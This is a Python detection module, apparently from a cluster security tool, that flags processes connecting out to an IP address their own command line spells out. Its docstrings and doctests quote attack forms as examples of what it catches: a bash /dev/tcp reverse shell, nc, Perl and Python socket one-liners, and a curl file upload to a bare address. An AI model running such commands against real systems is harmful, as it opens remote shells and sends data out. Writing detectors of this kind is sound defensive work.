"""A connection out of the cluster to an address written on the process's own command line.

Programs find the outside services they use by name (a DNS lookup, a configured URL): an
address typed as digits on a command line is someone's hand at work — a reverse shell
(``bash -i >& /dev/tcp/<ip>/<port>``, ``nc <ip> <port>``), a scripting language's socket
one-liner (``perl -e '…PeerAddr=>"<ip>:<port>"…'``, ``python -c '…connect(("<ip>", …))'``), an
upload to a bare address (``curl --data-binary @file http://<ip>/``).  Whatever the program,
the destination it reached is the one the command line names.  :func:`typed_destinations` gives
each process that connected out of the cluster, to a destination that is not its workload's
routine, an address its arguments spell out (whole, not part of a longer number) a detection
(kind ``detection``, rule :data:`RULE`, level medium): it speaks for that connection — an
engineer's ``curl https://api.example.com`` from an exec'd shell names a host, not an address.

>>> conns = pl.DataFrame({"exec_id": ["p", "c", "x"], "src_workload": ["db"] * 3,
...     "dst_ip": ["203.0.113.5", "151.101.2.132", "203.0.113.5"], "dst_port": [8443, 443, 8443],
...     "time_ns": [1, 2, 3], "event_id": ["f1", "f2", "f3"]})
>>> procs = pl.DataFrame({"exec_id": ["p", "c", "x"], "args": [
...     "-e '$s=IO::Socket::INET->new(PeerAddr=>\\"203.0.113.5:8443\\")'", "-s https://api.example.com/v1",
...     "--to 203.0.113.55"]})
>>> typed_destinations(conns, None, procs).select("exec_id", "kind", "rule_id").rows()
[('p', 'detection', 'engine:typed_address')]
"""

from __future__ import annotations

import re

import polars as pl

from kernelsec_nb.findings import _evidence as E

#: Rule id of the evidence.
RULE = "engine:typed_address"


def names_address(args: str | None, ip: str | None) -> bool:
    """Whether ``args`` spells out ``ip`` whole (not inside a longer number or name).

    >>> names_address("-c bash -i >& /dev/tcp/203.0.113.5/443 0>&1", "203.0.113.5")
    True
    >>> names_address("--to 203.0.113.55", "203.0.113.5"), names_address("v1.203.0.113.5", "203.0.113.5")
    (False, False)
    """
    if not args or not ip:
        return False
    return re.search(r"(?<![\w.:])" + re.escape(ip) + r"(?![\w]|\.\d)", args) is not None


def typed_destinations(conns: pl.DataFrame, routine_dest: pl.DataFrame | None, procs: pl.DataFrame,
                       weight: float = 2.0) -> pl.DataFrame:
    """A detection for each process of ``conns`` (the engine's connections: ``exec_id``,
    ``src_workload``, ``dst_ip``, ``dst_port``, ``time_ns``, ``event_id``) that went out of the
    cluster, to a destination that is not its workload's routine (``routine_dest``), at an address
    its arguments (``procs``: ``exec_id``, ``args``) spell out; one row per process and address."""
    if conns.height == 0 or procs.height == 0 or "args" not in procs.columns:
        return E.empty_evidence()
    out = E.unusual_outside(conns, routine_dest)
    if out.height == 0:
        return E.empty_evidence()
    out = out.with_columns(pl.col("dst_ip").cast(pl.String)).join(
        procs.select("exec_id", pl.col("args").cast(pl.String)).unique("exec_id"), on="exec_id", how="inner")
    out = out.filter(pl.col("args").fill_null("").str.contains(pl.col("dst_ip"), literal=True))
    if out.height == 0:
        return E.empty_evidence()
    named = [names_address(a, ip) for a, ip in out.select("args", "dst_ip").iter_rows()]
    out = out.filter(pl.Series(named, dtype=pl.Boolean)).sort("time_ns").unique(
        ["exec_id", "dst_ip"], keep="first", maintain_order=True)
    return E._rows(out.select(
        "exec_id", pl.lit(E.DETECTION).alias("kind"), pl.lit(weight).alias("weight"),
        pl.format("connected out of the cluster to {}:{}, an address its own command line spells out (typed by "
                  "hand: a reverse shell, a socket one-liner, an upload to a bare address)", "dst_ip",
                  "dst_port").alias("text"), "event_id", pl.lit(RULE).alias("rule_id")))


__all__ = ["RULE", "names_address", "typed_destinations"]
